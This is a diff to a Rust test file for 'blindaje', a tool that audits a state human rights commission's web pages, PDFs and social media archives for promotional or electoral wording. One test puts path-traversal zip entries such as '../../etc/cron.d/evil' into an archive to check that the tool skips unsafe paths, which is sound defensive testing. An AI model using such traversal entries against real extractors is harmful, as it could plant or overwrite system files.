@@ -85,6 +85,17 @@ fn serve(
             std::thread::sleep(Duration::from_secs(60));
             return;
         }
+        // The site's PDFs, written here: the annual report is clean, the brigades' report is the bulletin.
+        "/documentos/informe-anual-2026.pdf" => (
+            "200 OK",
+            "application/pdf",
+            lopdf_pdf(
+                "Informe anual 2026",
+                &[paragraph(50.0, 780.0, &["Informe anual de actividades 2026."])],
+                "WinAnsiEncoding",
+            ),
+        ),
+        "/documentos/informe-brigadas-2027.pdf" => ("200 OK", "application/pdf", bulletin()),
         _ => {
             let mut file = site_dir().join(path.trim_start_matches('/'));
             if path.ends_with('/') {
@@ -311,15 +322,20 @@ fn crawling_the_site_reports_each_finding_failure_and_pdf() {
     let fetched = server.paths.lock().unwrap().clone();
     assert!(!fetched.iter().any(|p| p.starts_with("/privado/")), "{fetched:?}");
     assert!(fetched.contains(&"/robots.txt".to_string()));
-    assert!(!fetched.iter().any(|p| p.ends_with(".pdf")));
     assert!(!serde_json::to_string(&r).unwrap().contains("cndh.org.mx/\""));
 
-    // PDFs are listed for manual review with the pages linking them.
+    // The site's PDFs are fetched once each and read, with the pages linking them.
+    assert_eq!(fetched.iter().filter(|p| p.ends_with(".pdf")).count(), 2, "{fetched:?}");
     let pdfs = r["pdfs"].as_array().unwrap();
     let anual =
         pdfs.iter().find(|p| p["url"].as_str().unwrap().ends_with("/documentos/informe-anual-2026.pdf")).unwrap();
     assert_eq!(anual["pages"].as_array().unwrap().len(), 2);
-    assert!(pdfs.iter().any(|p| p["url"].as_str().unwrap().ends_with("informe-brigadas-2027.pdf")));
+    assert_eq!(anual["audited"], true);
+    assert_eq!(document(&r, "informe-anual-2026.pdf")["status"], "clean");
+    let brigadas = document(&r, "informe-brigadas-2027.pdf");
+    assert_eq!(brigadas["origin"], "crawl");
+    assert_has(&brigadas["findings"], "achievements", Some("text"), "logramos");
+    assert_eq!(brigadas["linkedFrom"], serde_json::json!([format!("{}/noticias/brigada.html", server.base)]));
 
     // A clear user agent on every request.
     let agents = server.agents.lock().unwrap();
@@ -510,8 +526,9 @@ fn text_csv_and_html_reports() {
 
     let csv = blindaje(&[&common[..], &["--format", "csv"]].concat());
     let mut reader = csv::Reader::from_reader(csv.stdout.as_bytes());
+    // The first 14 columns as they always were; the PDF and social columns come after them.
     assert_eq!(
-        reader.headers().unwrap().iter().collect::<Vec<_>>(),
+        reader.headers().unwrap().iter().take(14).collect::<Vec<_>>(),
         vec![
             "scope",
             "severity",
@@ -528,6 +545,10 @@ fn text_csv_and_html_reports() {
             "guideline",
             "suggestion"
         ]
+    );
+    assert_eq!(
+        reader.headers().unwrap().iter().skip(14).collect::<Vec<_>>(),
+        vec!["pdf_page", "account", "posted", "post_id"]
     );
     let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
     assert!(rows.iter().any(|r| &r[0] == "page"
@@ -667,4 +688,813 @@ fn default_pack_alone_flags_the_unambiguous_cases() {
     assert_has(&page(&r, "oficina-regional.html")["findings"], "achievements", Some("text"), "logramos");
     assert_eq!(page(&r, "directorio.html")["status"], "clean");
     assert_eq!(page(&r, "aviso-de-privacidad.html")["status"], "clean");
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// PDFs, social archives and the audit's security (issues 20 and 17). PDFs are written here, by lopdf's
+// writer and by LibreOffice; archives are written here as the platforms lay them out.
+
+/// A temporary folder removed on drop.
+struct Temp(PathBuf);
+
+impl Temp {
+    fn new(name: &str) -> Temp {
+        let dir = std::env::temp_dir().join(format!("blindaje-audit-{name}-{}", std::process::id()));
+        std::fs::remove_dir_all(&dir).ok();
+        std::fs::create_dir_all(&dir).unwrap();
+        Temp(dir)
+    }
+
+    fn write(&self, rel: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
+        let path = self.0.join(rel);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, bytes).unwrap();
+        path
+    }
+
+    fn path(&self, rel: &str) -> String {
+        self.0.join(rel).to_str().unwrap().to_string()
+    }
+}
+
+impl Drop for Temp {
+    fn drop(&mut self) {
+        std::fs::remove_dir_all(&self.0).ok();
+    }
+}
+
+/// One line of text placed on a PDF page: x, y (points from the bottom left) and the text.
+type Line<'a> = (f32, f32, &'a str);
+
+/// A PDF written with lopdf: Helvetica in WinAnsiEncoding (so accented Spanish is real PDF text), one
+/// content stream per page, lines drawn in the order given (a two-column page gives column one first, as
+/// producers do).
+fn lopdf_pdf(title: &str, pages: &[Vec<Line<'_>>], font_encoding: &str) -> Vec<u8> {
+    use lopdf::content::{Content, Operation};
+    use lopdf::{dictionary, Document, Object, Stream, StringFormat};
+    let mut doc = Document::with_version("1.5");
+    let pages_id = doc.new_object_id();
+    let font = doc.add_object(dictionary! {
+        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica", "Encoding" => font_encoding,
+    });
+    let resources = doc.add_object(dictionary! { "Font" => dictionary! { "F1" => font } });
+    let mut kids = Vec::new();
+    for lines in pages {
+        let mut ops = vec![Operation::new("BT", vec![]), Operation::new("Tf", vec!["F1".into(), 11.into()])];
+        for (x, y, text) in lines {
+            let (bytes, _, _) = encoding_rs::WINDOWS_1252.encode(text);
+            ops.push(Operation::new("Tm", vec![1.into(), 0.into(), 0.into(), 1.into(), (*x).into(), (*y).into()]));
+            ops.push(Operation::new("Tj", vec![Object::String(bytes.into_owned(), StringFormat::Literal)]));
+        }
+        ops.push(Operation::new("ET", vec![]));
+        let content = doc.add_object(Stream::new(dictionary! {}, Content { operations: ops }.encode().unwrap()));
+        kids.push(Object::Reference(doc.add_object(dictionary! {
+            "Type" => "Page", "Parent" => pages_id, "Contents" => content,
+        })));
+    }
+    let count = kids.len() as i64;
+    doc.objects.insert(
+        pages_id,
+        Object::Dictionary(dictionary! {
+            "Type" => "Pages", "Kids" => kids, "Count" => count, "Resources" => resources,
+            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
+        }),
+    );
+    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
+    let info = doc.add_object(dictionary! { "Title" => lopdf::text_string(title) });
+    doc.trailer.set("Root", catalog);
+    doc.trailer.set("Info", info);
+    let mut out = Vec::new();
+    doc.save_to(&mut out).unwrap();
+    out
+}
+
+/// Lines of a paragraph from (x, y) down, 13 points apart.
+fn paragraph<'a>(x: f32, y: f32, lines: &[&'a str]) -> Vec<Line<'a>> {
+    lines.iter().enumerate().map(|(i, l)| (x, y - 13.0 * i as f32, *l)).collect()
+}
+
+/// The bulletin: page 1 neutral, page 2 in two columns with the achievement in the second column.
+fn bulletin() -> Vec<u8> {
+    let page1 = [
+        paragraph(50.0, 780.0, &["Boletín de la Comisión Estatal de Derechos Humanos"]),
+        paragraph(
+            50.0,
+            740.0,
+            &["La atención de quejas continúa de 9 a 17 horas en", "todas las oficinas; el trámite es gratuito."],
+        ),
+    ]
+    .concat();
+    let page2 = [
+        paragraph(
+            50.0,
+            780.0,
+            &["Columna uno: la Visitaduría acudió a la", "comunidad para brindar orientación jurídica."],
+        ),
+        paragraph(50.0, 730.0, &["Se impartió el taller sobre derechos de las", "personas mayores en la región."]),
+        paragraph(
+            310.0,
+            780.0,
+            &["Columna dos: gracias al apoyo del Gobernador", "logramos 40% más conciliaciones en la región."],
+        ),
+        paragraph(310.0, 730.0, &["La Presidenta Ana Laura Pérez Gómez encabezó", "la ceremonia de inauguración."]),
+    ]
+    .concat();
+    lopdf_pdf("Boletín número 12", &[page1, page2], "WinAnsiEncoding")
+}
+
+fn document<'a>(r: &'a Value, url_end: &str) -> &'a Value {
+    let docs = r["documents"].as_array().unwrap();
+    docs.iter()
+        .find(|d| d["url"].as_str().unwrap().ends_with(url_end))
+        .unwrap_or_else(|| panic!("no document {url_end}: {docs:#?}"))
+}
+
+#[test]
+fn pdf_text_is_judged_page_by_page_with_the_page_cited() {
+    let dir = Temp::new("pdf");
+    dir.write("boletin-12.pdf", bulletin());
+    let clean =
+        lopdf_pdf("Aviso", &[paragraph(50.0, 780.0, &["Horario de atención: de 9 a 17 horas."])], "WinAnsiEncoding");
+    dir.write("docs/aviso.pdf", clean);
+    dir.write(
+        "index.html",
+        "<html><head><title>Inicio</title></head><body><p><a href=\"boletin-12.pdf\">Boletín</a></p></body></html>",
+    );
+    let run = audit(&[&dir.path("")], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let r = run.json();
+    assert_eq!(r["summary"]["documents"], 2, "{:#}", r["summary"]);
+    assert_eq!(r["summary"]["pdfPages"], 3);
+    let b = document(&r, "boletin-12.pdf");
+    assert_eq!(b["title"], "Boletín número 12");
+    assert_eq!(b["pageCount"], 2);
+    assert_eq!(b["status"], "warnings");
+    let f = &b["findings"];
+    assert_has(f, "achievements", Some("text"), "gracias al apoyo del Gobernador");
+    assert_has(f, "achievements", Some("text"), "logramos");
+    assert_has(f, "personalized", Some("text"), "Ana Laura Pérez Gómez");
+    for finding in f.as_array().unwrap() {
+        assert_eq!(finding["pdfPage"], 2, "{finding:#}");
+    }
+    // The second column is its own text: the first column's last line does not run into it.
+    let logramos = f.as_array().unwrap().iter().find(|x| norm(x["excerpt"].as_str().unwrap()) == "logramos").unwrap();
+    assert!(!logramos["before"].as_str().unwrap().contains("región. Columna"), "{logramos:#}");
+    assert_eq!(document(&r, "aviso.pdf")["status"], "clean");
+    // The page linking it says the PDF was read, and the PDF knows who links it.
+    let link =
+        r["pdfs"].as_array().unwrap().iter().find(|p| p["url"].as_str().unwrap().ends_with("boletin-12.pdf")).unwrap();
+    assert_eq!(link["audited"], true);
+    assert_eq!(b["linkedFrom"].as_array().unwrap().len(), 1);
+
+    // A single PDF is a source too; the text report cites the page.
+    let one = blindaje(&[
+        "audit",
+        "--policy",
+        fixtures().join("policy.json").to_str().unwrap(),
+        "--rules",
+        fixtures().join("rules.json").to_str().unwrap(),
+        "--date",
+        "2027-04-20",
+        &dir.path("boletin-12.pdf"),
+    ]);
+    assert_eq!(one.code, 1, "{}", one.stderr);
+    assert!(one.stdout.contains("== Documentos PDF leídos (1, 2 páginas): 1 con avisos =="), "{}", one.stdout);
+    assert!(one.stdout.contains("· página 2 · "), "{}", one.stdout);
+}
+
+/// `soffice --convert-to pdf` of `file` into its folder.
+fn soffice_pdf(file: &Path) -> PathBuf {
+    let dir = file.parent().unwrap();
+    let profile = dir.join("lo-profile");
+    let out = Command::new("soffice")
+        .arg(format!("-env:UserInstallation=file://{}", profile.display()))
+        .args(["--headless", "--convert-to", "pdf", "--outdir"])
+        .arg(dir)
+        .arg(file)
+        .output()
+        .unwrap_or_else(|e| {
+            panic!("soffice (LibreOffice) is needed to write this test's PDFs: apt-get install libreoffice-writer-nogui ({e}); ./build.sh test installs it")
+        });
+    let pdf = file.with_extension("pdf");
+    assert!(pdf.exists(), "soffice wrote no PDF: {}", String::from_utf8_lossy(&out.stderr));
+    pdf
+}
+
+#[test]
+fn libreoffice_pdfs_two_columns_and_accents() {
+    let dir = Temp::new("soffice");
+    // A flat ODT: a bulletin laid out in two columns, accented Spanish throughout.
+    let fodt = r#"<?xml version="1.0" encoding="UTF-8"?>
+<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
+ xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
+ xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">
+<office:automatic-styles>
+ <style:style style:name="Sect1" style:family="section"><style:section-properties><style:columns fo:column-count="2" fo:column-gap="0.8cm"/></style:section-properties></style:style>
+ <style:style style:name="P1" style:family="paragraph"><style:paragraph-properties fo:margin-bottom="0.4cm"/></style:style>
+ <style:style style:name="Salto" style:family="paragraph"><style:paragraph-properties fo:break-before="column"/></style:style>
+</office:automatic-styles>
+<office:body><office:text>
+<text:p text:style-name="P1">Boletín informativo de la Comisión Estatal de Derechos Humanos</text:p>
+<text:section text:style-name="Sect1" text:name="Columnas">
+<text:p text:style-name="P1">La Visitaduría General acudió a la comunidad de Santa María para brindar orientación jurídica gratuita a las familias que así lo solicitaron.</text:p>
+<text:p text:style-name="Salto">Inauguramos la nueva oficina regional con el apoyo del Gobernador del Estado; logramos atender a más personas que nunca.</text:p>
+</text:section>
+</office:text></office:body></office:document>"#;
+    let pdf = soffice_pdf(&dir.write("boletin.fodt", fodt));
+    std::fs::remove_dir_all(dir.0.join("lo-profile")).ok();
+    std::fs::remove_file(dir.0.join("boletin.fodt")).ok();
+    let run = audit(&[pdf.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let r = run.json();
+    let d = document(&r, "boletin.pdf");
+    let f = &d["findings"];
+    assert_has(f, "achievements", Some("text"), "Inauguramos");
+    assert_has(f, "achievements", Some("text"), "logramos");
+    let inauguramos =
+        f.as_array().unwrap().iter().find(|x| norm(x["excerpt"].as_str().unwrap()) == "inauguramos").unwrap();
+    assert_eq!(inauguramos["pdfPage"], 1);
+    // Accents survive LibreOffice's embedded fonts, and the columns do not run into each other.
+    let text = serde_json::to_string(f).unwrap();
+    assert!(text.contains("Gobernador del Estado"), "{text}");
+    assert!(!inauguramos["before"].as_str().unwrap().contains("solicitaron"), "{inauguramos:#}");
+    let visitaduria = blindaje(&["audit", "--format", "text", "--date", "2027-04-20", pdf.to_str().unwrap()]);
+    assert!(visitaduria.stdout.contains("PDF leídos"), "{}", visitaduria.stdout);
+}
+
+/// A PDF whose page is only an image: what a scanner gives.
+fn scanned_pdf() -> Vec<u8> {
+    use lopdf::{dictionary, Document, Object, Stream};
+    let mut doc = Document::with_version("1.5");
+    let pages_id = doc.new_object_id();
+    let image = doc.add_object(Stream::new(
+        dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => 2, "Height" => 2, "ColorSpace" => "DeviceGray", "BitsPerComponent" => 8 },
+        vec![0, 255, 255, 0],
+    ));
+    let resources = doc.add_object(dictionary! { "XObject" => dictionary! { "Im1" => image } });
+    let content = doc.add_object(Stream::new(dictionary! {}, b"q 500 0 0 700 40 60 cm /Im1 Do Q".to_vec()));
+    let page = doc.add_object(
+        dictionary! { "Type" => "Page", "Parent" => pages_id, "Contents" => content, "Resources" => resources },
+    );
+    doc.objects.insert(
+        pages_id,
+        Object::Dictionary(dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1,
+        "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()] }),
+    );
+    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
+    doc.trailer.set("Root", catalog);
+    let mut out = Vec::new();
+    doc.save_to(&mut out).unwrap();
+    out
+}
+
+/// A PDF encrypted with a user password (the standard security handler's dictionary, RC4 128-bit; the
+/// empty password does not open it).
+fn encrypted_pdf() -> Vec<u8> {
+    let plain = lopdf_pdf("Secreto", &[paragraph(50.0, 780.0, &["logramos"])], "WinAnsiEncoding");
+    use lopdf::dictionary;
+    let mut doc = lopdf::Document::load_mem(&plain).unwrap();
+    let encrypt = doc.add_object(dictionary! {
+        "Filter" => "Standard", "V" => 2, "R" => 3, "Length" => 128, "P" => -3904,
+        "O" => lopdf::Object::String(vec![0x4f; 32], lopdf::StringFormat::Hexadecimal),
+        "U" => lopdf::Object::String(vec![0x55; 32], lopdf::StringFormat::Hexadecimal),
+    });
+    doc.trailer.set("Encrypt", encrypt);
+    doc.trailer.set(
+        "ID",
+        vec![lopdf::Object::string_literal("0123456789abcdef"), lopdf::Object::string_literal("0123456789abcdef")],
+    );
+    let mut out = Vec::new();
+    doc.save_to(&mut out).unwrap();
+    out
+}
+
+#[test]
+fn unreadable_pdfs_are_listed_with_the_reason_and_the_audit_goes_on() {
+    let dir = Temp::new("pdf-bad");
+    dir.write("escaneado.pdf", scanned_pdf());
+    dir.write("cifrado.pdf", encrypted_pdf());
+    let good = bulletin();
+    dir.write("truncado.pdf", &good[..good.len() / 3]);
+    // pdf-extract panics on an encoding it does not know: caught, reported, the audit goes on.
+    dir.write("fuente-rara.pdf", lopdf_pdf("Raro", &[paragraph(50.0, 780.0, &["logramos"])], "NoSuchEncoding"));
+    dir.write("boletin.pdf", &good);
+    // Two pages, read with a one-page limit: read in part, and said so.
+    let run = audit(&[&dir.path("")], &["--max-pdf-pages", "1"]);
+    assert_eq!(run.code, 0, "only the bulletin's first page is read, and it is clean: {}", run.stderr);
+    let r = run.json();
+    let failed = &r["failed"];
+    assert!(reason(failed, "escaneado.pdf").contains("sin capa de texto"), "{failed:#}");
+    assert!(reason(failed, "cifrado.pdf").contains("cifrado"), "{failed:#}");
+    assert!(reason(failed, "truncado.pdf").contains("dañado"), "{failed:#}");
+    assert!(reason(failed, "fuente-rara.pdf").contains("fallo interno"), "{failed:#}");
+    assert!(!run.stderr.contains("panicked"), "the caught panic is not printed: {}", run.stderr);
+    let b = document(&r, "boletin.pdf");
+    assert!(b["incomplete"].as_str().unwrap().contains("primeras 1 de 2"), "{b:#}");
+    assert_eq!(r["summary"]["documents"], 1);
+
+    // Too large: not opened.
+    let run = audit(&[&dir.path("boletin.pdf")], &["--max-pdf-mb", "0"]);
+    assert_eq!(run.code, 2, "nothing read: {}", run.stderr);
+    assert!(reason(&run.json()["failed"], "boletin.pdf").contains("límite"), "{}", run.stdout);
+}
+
+/// A zip of (name, bytes) entries.
+fn zip_of(entries: &[(&str, Vec<u8>)]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    for (name, bytes) in entries {
+        w.start_file(*name, options).unwrap();
+        w.write_all(bytes).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+fn tweets_js(prefix: &str, tweets: &[(&str, &str, &str)]) -> Vec<u8> {
+    let items: Vec<Value> = tweets
+        .iter()
+        .map(|(id, date, text)| serde_json::json!({"tweet": {"id_str": id, "full_text": text, "created_at": date, "entities": {}}}))
+        .collect();
+    format!("window.YTD.{prefix}.part0 = {}", serde_json::to_string_pretty(&items).unwrap()).into_bytes()
+}
+
+fn x_archive() -> Vec<(&'static str, Vec<u8>)> {
+    vec![
+        (
+            "data/account.js",
+            br#"window.YTD.account.part0 = [ { "account": { "username": "CEDH_Estado", "accountId": "42" } } ]"#
+                .to_vec(),
+        ),
+        (
+            "data/tweets.js",
+            tweets_js(
+                "tweets",
+                &[
+                    (
+                        "1001",
+                        "Mon Mar 01 15:30:00 +0000 2027",
+                        "Inauguramos la oficina regional gracias al apoyo del Gobernador",
+                    ),
+                    (
+                        "1002",
+                        "Tue Mar 02 10:00:00 +0000 2027",
+                        "Horario de atención: de 9 a 17 horas. Tu queja es gratuita &amp; confidencial.",
+                    ),
+                    ("1003", "Wed Mar 03 12:00:00 +0000 2027", "Este 6 de junio vota por Morena"),
+                ],
+            ),
+        ),
+        (
+            "data/community-tweet.js",
+            tweets_js("community_tweet", &[("2001", "Thu Mar 04 09:00:00 +0000 2027", "Sigamos haciendo historia")]),
+        ),
+        ("data/tweets_media/1001-a.jpg", vec![0xff, 0xd8, 0xff]),
+    ]
+}
+
+#[test]
+fn x_archive_as_zip_and_as_folder() {
+    let dir = Temp::new("x");
+    let zip = dir.write("twitter-2027-03-10.zip", zip_of(&x_archive()));
+    for (name, bytes) in x_archive() {
+        dir.write(&format!("unzipped/{name}"), bytes);
+    }
+    for source in [zip.to_str().unwrap().to_string(), dir.path("unzipped")] {
+        let run = audit(&[&source], &[]);
+        assert_eq!(run.code, 1, "{}", run.stderr);
+        let r = run.json();
+        let accounts = r["accounts"].as_array().unwrap();
+        assert_eq!(accounts.len(), 1, "{accounts:#?}");
+        let a = &accounts[0];
+        assert_eq!(a["platform"], "x");
+        assert_eq!(a["account"], "@CEDH_Estado");
+        assert_eq!(a["posts"], 4);
+        assert_eq!(a["postsWithWarnings"], 3);
+        assert_eq!(a["cleanPosts"], 1);
+        let flagged = a["flagged"].as_array().unwrap();
+        // Most severe first: the call to vote and the slogan are high, the achievement medium.
+        assert_eq!(flagged[0]["findings"][0]["severity"], "high");
+        let post = |id: &str| flagged.iter().find(|p| p["id"] == id).unwrap_or_else(|| panic!("{id}: {flagged:#?}"));
+        assert_eq!(post("1001")["url"], "https://x.com/CEDH_Estado/status/1001");
+        assert_eq!(post("1001")["date"], "2027-03-01 15:30");
+        assert_has(&post("1001")["findings"], "achievements", None, "Inauguramos");
+        assert_has(&post("1003")["findings"], "electoral", None, "vota por");
+        assert_has(&post("2001")["findings"], "electoral", None, "Sigamos haciendo historia");
+        assert_eq!(post("2001")["file"], "data/community-tweet.js");
+        assert!(!flagged.iter().any(|p| p["id"] == "1002"));
+        assert_eq!(r["summary"]["posts"], 4);
+        assert_eq!(r["summary"]["postsWithWarnings"], 3);
+    }
+}
+
+/// Facebook's and Instagram's exports write each UTF-8 byte as its own `\u00XX` escape.
+fn mojibake_json(value: &Value) -> Vec<u8> {
+    let text = serde_json::to_string_pretty(value).unwrap();
+    let mut out = String::new();
+    for c in text.chars() {
+        if c.is_ascii() {
+            out.push(c);
+        } else {
+            let mut buf = [0u8; 4];
+            for b in c.encode_utf8(&mut buf).bytes() {
+                out.push_str(&format!("\\u00{b:02x}"));
+            }
+        }
+    }
+    out.into_bytes()
+}
+
+#[test]
+fn facebook_and_instagram_archives_with_their_mojibake_undone() {
+    let dir = Temp::new("meta");
+    let fb = serde_json::json!([
+        {"timestamp": 1_803_000_000, "title": "Comisión Estatal de Derechos Humanos actualizó su estado.",
+         "data": [{"post": "¡Logramos 40% más conciliaciones gracias al apoyo del Gobernador! 🎉"}],
+         "attachments": [{"data": [{"external_context": {"url": "https://www.facebook.com/CEDHEstado/posts/pfbid0abc"}}]}]},
+        {"timestamp": 1_803_100_000, "data": [{"post": "Recuerda: la atención es gratuita y confidencial."}]},
+        {"timestamp": 1_803_200_000, "attachments": [{"data": [{"media": {"uri": "photos/1.jpg"}}]}]}
+    ]);
+    dir.write("facebook-cedh/your_facebook_activity/posts/your_posts_1.json", mojibake_json(&fb));
+    dir.write(
+        "facebook-cedh/personal_information/profile_information/profile_information.json",
+        mojibake_json(&serde_json::json!({"profile_v2": {"name": {"full_name": "Comisión Estatal"}}})),
+    );
+    let ig = serde_json::json!([
+        {"media": [{"uri": "media/posts/1.jpg", "creation_timestamp": 1_803_300_000,
+                    "title": "La Presidenta Ana Laura Pérez Gómez inauguró la oficina 🏛️"}]},
+        {"media": [{"uri": "media/posts/2.jpg", "creation_timestamp": 1_803_400_000, "title": "Día de puertas abiertas"}]}
+    ]);
+    let ig_zip = dir.write(
+        "instagram-cedh.zip",
+        zip_of(&[
+            ("your_instagram_activity/content/posts_1.json", mojibake_json(&ig)),
+            (
+                "personal_information/personal_information/personal_information.json",
+                br#"{"profile_user": [{"string_map_data": {"Username": {"value": "cedh.estado"}}}]}"#.to_vec(),
+            ),
+        ]),
+    );
+    let run = audit(&[&dir.path("facebook-cedh"), ig_zip.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let r = run.json();
+    let accounts = r["accounts"].as_array().unwrap();
+    let fb = accounts.iter().find(|a| a["platform"] == "facebook").unwrap();
+    assert_eq!(fb["account"], "Comisión Estatal");
+    assert_eq!(fb["posts"], 2);
+    assert_eq!(fb["withoutText"], 1);
+    let post = &fb["flagged"][0];
+    assert_eq!(post["text"], "¡Logramos 40% más conciliaciones gracias al apoyo del Gobernador! 🎉");
+    assert_eq!(post["url"], "https://www.facebook.com/CEDHEstado/posts/pfbid0abc");
+    assert_eq!(post["date"], "2027-02-19 01:20");
+    assert_has(&post["findings"], "achievements", None, "Logramos");
+    let ig = accounts.iter().find(|a| a["platform"] == "instagram").unwrap();
+    assert_eq!(ig["account"], "@cedh.estado");
+    assert_eq!(ig["posts"], 2);
+    let post = &ig["flagged"][0];
+    assert!(post["text"].as_str().unwrap().starts_with("La Presidenta Ana Laura Pérez Gómez inauguró"), "{post:#}");
+    assert_eq!(post["url"], Value::Null);
+    assert_has(&post["findings"], "personalized", None, "Ana Laura Pérez Gómez");
+
+    // The HTML report groups by source, each post linked.
+    let out = dir.0.join("informe.html");
+    let html = blindaje(&[
+        "audit",
+        "--policy",
+        fixtures().join("policy.json").to_str().unwrap(),
+        "--rules",
+        fixtures().join("rules.json").to_str().unwrap(),
+        "--date",
+        "2027-04-20",
+        "--output",
+        out.to_str().unwrap(),
+        &dir.path("facebook-cedh"),
+        ig_zip.to_str().unwrap(),
+        site_dir().to_str().unwrap(),
+    ]);
+    assert_eq!(html.code, 1, "{}", html.stderr);
+    let page = std::fs::read_to_string(&out).unwrap();
+    let at = |needle: &str| page.find(needle).unwrap_or_else(|| panic!("{needle} not in the report"));
+    let (resumen, paginas, facebook, instagram) = (
+        at("Resumen para imprimir"),
+        at("id=\"paginas\""),
+        at("<h2>Facebook Comisión Estatal"),
+        at("<h2>Instagram @cedh.estado"),
+    );
+    assert!(resumen < paginas && paginas < facebook && facebook < instagram);
+    assert!(page.contains("href=\"https://www.facebook.com/CEDHEstado/posts/pfbid0abc\""));
+    assert!(page.contains("Los 20 avisos más graves"), "more than 20 findings in all");
+    assert!(page.contains("Lo que no se pudo leer"));
+    assert_eq!(page[resumen..paginas].matches("<tr><td><span class=\"badge").count(), 20);
+}
+
+#[test]
+fn malformed_archives_name_the_file_and_the_line() {
+    let dir = Temp::new("x-bad");
+    let mut bad = x_archive();
+    bad[1].1 = b"window.YTD.tweets.part0 = [\n  {\"tweet\": {\"id_str\": \"1\",\n    \"full_text\": }}\n]".to_vec();
+    let zip = dir.write("roto.zip", zip_of(&bad));
+    let run = audit(&[zip.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 2);
+    assert!(run.stderr.contains("roto.zip: data/tweets.js: invalid JSON at line 3"), "{}", run.stderr);
+
+    let mut missing = x_archive();
+    missing[1].1 = b"window.YTD.tweets.part0 = [{\"tweet\": {\"id_str\": \"7\", \"created_at\": \"Mon Mar 01 15:30:00 +0000 2027\"}}]".to_vec();
+    let zip = dir.write("sin-texto.zip", zip_of(&missing));
+    let run = audit(&[zip.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 2);
+    assert!(
+        run.stderr.contains("data/tweets.js: post 1 (index 0): missing the field «tweet.full_text»"),
+        "{}",
+        run.stderr
+    );
+
+    let fb = dir.write("fb/posts/your_posts_1.json", b"[{\"timestamp\": \"ayer\", \"data\": [{\"post\": \"hola\"}]}]");
+    let run = audit(&[&dir.path("fb")], &[]);
+    assert_eq!(run.code, 2);
+    assert!(
+        run.stderr.contains("posts/your_posts_1.json: post 1 (index 0): field «timestamp» is not a number"),
+        "{}",
+        run.stderr
+    );
+    drop(fb);
+
+    let not_zip = dir.write("nada.zip", b"PK\x03\x04 not really");
+    let run = audit(&[not_zip.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 2);
+    assert!(run.stderr.contains("nada.zip: not a valid zip archive"), "{}", run.stderr);
+}
+
+#[test]
+fn zip_entries_with_unsafe_paths_are_listed_not_read() {
+    let dir = Temp::new("x-traversal");
+    let mut entries = x_archive();
+    entries.push(("../../etc/cron.d/evil", b"* * * * * root true".to_vec()));
+    entries.push(("data/../../fuera.js", b"x".to_vec()));
+    let zip = dir.write("x.zip", zip_of(&entries));
+    let run = audit(&[zip.to_str().unwrap()], &[]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let r = run.json();
+    assert!(reason(&r["skipped"], "../../etc/cron.d/evil").contains("ruta insegura"));
+    assert!(reason(&r["skipped"], "data/../../fuera.js").contains("ruta insegura"));
+    assert!(!dir.0.parent().unwrap().join("fuera.js").exists());
+}
+
+// --- The audit only fetches what it means to (issue 17). -------------------------------------------------
+
+/// An HTTP server on `addr` answering from a fixed table of routes (path → status, extra headers, body),
+/// recording every path asked for.
+struct Routes {
+    base: String,
+    paths: Arc<Mutex<Vec<String>>>,
+}
+
+type Route = (&'static str, Vec<(String, String)>, Vec<u8>);
+
+impl Routes {
+    fn start(addr: &str, routes: impl Fn(&str, &str) -> Route + Send + Sync + 'static) -> Routes {
+        let listener = TcpListener::bind(addr).unwrap();
+        let base = format!("http://{}", listener.local_addr().unwrap());
+        let paths: Arc<Mutex<Vec<String>>> = Arc::default();
+        let (seen, routes, b) = (paths.clone(), Arc::new(routes), base.clone());
+        std::thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                let (seen, routes, base) = (seen.clone(), routes.clone(), b.clone());
+                std::thread::spawn(move || {
+                    let mut reader = BufReader::new(stream.try_clone().unwrap());
+                    let mut line = String::new();
+                    if reader.read_line(&mut line).is_err() {
+                        return;
+                    }
+                    loop {
+                        let mut h = String::new();
+                        if reader.read_line(&mut h).unwrap_or(0) == 0 || h.trim().is_empty() {
+                            break;
+                        }
+                    }
+                    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
+                    seen.lock().unwrap().push(path.clone());
+                    let (status, headers, body) = routes(&path, &base);
+                    let mut head =
+                        format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n", body.len());
+                    for (k, v) in headers {
+                        head.push_str(&format!("{k}: {v}\r\n"));
+                    }
+                    head.push_str("\r\n");
+                    let _ = stream.write_all(head.as_bytes());
+                    let _ = stream.write_all(&body);
+                });
+            }
+        });
+        Routes { base, paths }
+    }
+
+    fn asked(&self) -> Vec<String> {
+        self.paths.lock().unwrap().clone()
+    }
+}
+
+fn html(body: &str) -> Route {
+    ("200 OK", vec![("Content-Type".into(), "text/html; charset=utf-8".into())], body.as_bytes().to_vec())
+}
+
+fn redirect(to: &str) -> Route {
+    ("302 Found", vec![("Location".into(), to.into())], Vec::new())
+}
+
+#[test]
